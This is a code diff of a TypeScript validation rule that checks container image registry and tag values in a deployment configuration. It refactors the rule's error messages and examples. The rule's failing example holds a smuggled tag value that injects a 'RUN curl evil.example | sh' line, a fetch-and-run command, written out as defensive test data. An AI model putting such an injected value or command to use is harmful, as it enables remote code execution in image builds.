@@ -1,8 +1,6 @@
-import type { Finding } from '../finding.js';
-import type { Model } from '../ir.js';
-import { DEFAULTS } from '../resolve.js';
+import { DEFAULTS } from '../defaults.js';
 import { quoteText } from '../quote.js';
-import type { Rule } from './rule.js';
+import { defineRule } from './rule.js';
 
 // The grammar of distribution/reference (reference.go, regexp.go), which Docker, containerd,
 // Kubernetes and the OCI distribution spec share:
@@ -38,17 +36,17 @@ export function isImageTag(tag: string): boolean {
   return TAG.test(tag);
 }
 
-/** Why `registry` cannot prefix a repository name, or undefined. */
-function registryProblem(registry: string): string | undefined {
+/** Why `registry` cannot prefix a repository name (a message id), or undefined. */
+function registryProblem(registry: string): 'registryUrl' | 'registryTrailingSlash' | 'registryCapitals' | 'registryInvalid' | undefined {
   // Each service's image is <registry>/<context>: a context name is always a valid path component.
   if (isRepositoryName(`${registry}/x`)) return undefined;
-  if (/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(registry)) return 'is a URL: an image registry is a host and a path, without a scheme';
-  if (registry.endsWith('/')) return 'ends in "/" (each service\'s image is <registry>/<context>)';
-  if (isRepositoryName(`${registry.toLowerCase()}/x`)) return 'has capital letters in its path: repository paths are lowercase';
-  return 'is not an OCI repository name: [host[:port]/]path, the path of lowercase letters and digits, separated by "/" and by ".", "_", "__" or "-"';
+  if (/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(registry)) return 'registryUrl';
+  if (registry.endsWith('/')) return 'registryTrailingSlash';
+  if (isRepositoryName(`${registry.toLowerCase()}/x`)) return 'registryCapitals';
+  return 'registryInvalid';
 }
 
-export const rule: Rule = {
+export const rule = defineRule({
   code: 'MSA602',
   name: 'image-reference',
   severity: 'error',
@@ -68,50 +66,63 @@ Kubernetes share (and the OCI distribution spec follows):
   lowercase letters and digits, joined by \`.\`, \`_\`, \`__\` or dashes. No scheme
   (\`https://\`), no trailing \`/\`, no spaces or control characters. With the service name
   appended, the repository name is at most 255 characters.
-- the tag is 1 to 128 of letters, digits, \`_\`, \`.\` and \`-\`, not starting with \`.\` or \`-\`.
-
-Fails:
-
-    platform:
-      deploy:
-        image:
-          registry: https://Registry.example.gov/Gov24/    # a URL, capitals in the path, a trailing /
-          tag: "1.4.0\\nRUN curl evil.example | sh"         # a line break in the tag
-
-Passes:
-
-    platform:
-      deploy:
-        image:
-          registry: registry.example.gov:5000/gov24
-          tag: 1.4.0-rc.1`,
-  check(model: Model) {
-    const findings: Finding[] = [];
+- the tag is 1 to 128 of letters, digits, \`_\`, \`.\` and \`-\`, not starting with \`.\` or \`-\`.`,
+  messages: {
+    /** `registry`, `tag`: quoted and escaped. */
+    registryUrl: 'Image registry {{registry}} is a URL: an image registry is a host and a path, without a scheme',
+    registryTrailingSlash: `Image registry {{registry}} ends in "/" (each service's image is <registry>/<context>)`,
+    registryCapitals: 'Image registry {{registry}} has capital letters in its path: repository paths are lowercase',
+    registryInvalid:
+      'Image registry {{registry}} is not an OCI repository name: [host[:port]/]path, the path of lowercase letters and digits, separated by "/" and by ".", "_", "__" or "-"',
+    registryTooLong: {
+      text: 'Image registry {{registry}} makes the repository name of context "{{context}}" {{length}} characters long; an image reference allows at most {{limit}}',
+      hint: 'Shorten the registry to at most {{max}} characters.',
+    },
+    invalidTag: 'Image tag {{tag}} is not a valid tag: 1 to 128 of letters, digits, "_", "." and "-", not starting with "." or "-"',
+  },
+  examples: {
+    fails: [
+      {
+        yaml: `platform:
+  deploy:
+    image:
+      registry: https://Registry.example.gov/Gov24/    # a URL, capitals in the path, a trailing /
+      tag: "1.4.0\\nRUN curl evil.example | sh"         # a line break in the tag`,
+      },
+    ],
+    passes: [
+      {
+        yaml: `platform:
+  deploy:
+    image:
+      registry: registry.example.gov:5000/gov24
+      tag: 1.4.0-rc.1`,
+      },
+    ],
+  },
+  check(model, report) {
     const p = model.platform;
     const { registry, tag } = p.deploy.image;
+    const pointer = '/platform/deploy/image/registry';
     // Unwritten values are msa-gen's defaults: registry.local/<platform> (MSA102 checks the name) and 0.1.0.
     if (registry !== `registry.local/${p.name}`) {
       const problem = registryProblem(registry);
       if (problem !== undefined) {
-        findings.push({ pointer: '/platform/deploy/image/registry', message: `Image registry ${quoteText(registry)} ${problem}` });
+        report({ pointer, messageId: problem, data: { registry: quoteText(registry) } });
       } else {
         const longest = model.contexts.reduce((a, c) => (c.name.length > a.length ? c.name : a), '');
         const length = registry.length + 1 + longest.length;
         if (length > MAX_REPOSITORY_NAME) {
-          findings.push({
-            pointer: '/platform/deploy/image/registry',
-            message: `Image registry ${quoteText(registry)} makes the repository name of context "${longest}" ${length} characters long; an image reference allows at most ${MAX_REPOSITORY_NAME}`,
-            hint: `Shorten the registry to at most ${MAX_REPOSITORY_NAME - 1 - longest.length} characters.`,
+          report({
+            pointer,
+            messageId: 'registryTooLong',
+            data: { registry: quoteText(registry), context: longest, length, limit: MAX_REPOSITORY_NAME, max: MAX_REPOSITORY_NAME - 1 - longest.length },
           });
         }
       }
     }
     if (tag !== DEFAULTS.imageTag && !isImageTag(tag)) {
-      findings.push({
-        pointer: '/platform/deploy/image/tag',
-        message: `Image tag ${quoteText(tag)} is not a valid tag: 1 to 128 of letters, digits, "_", "." and "-", not starting with "." or "-"`,
-      });
+      report({ pointer: '/platform/deploy/image/tag', messageId: 'invalidTag', data: { tag: quoteText(tag) } });
     }
-    return findings;
   },
-};
+});
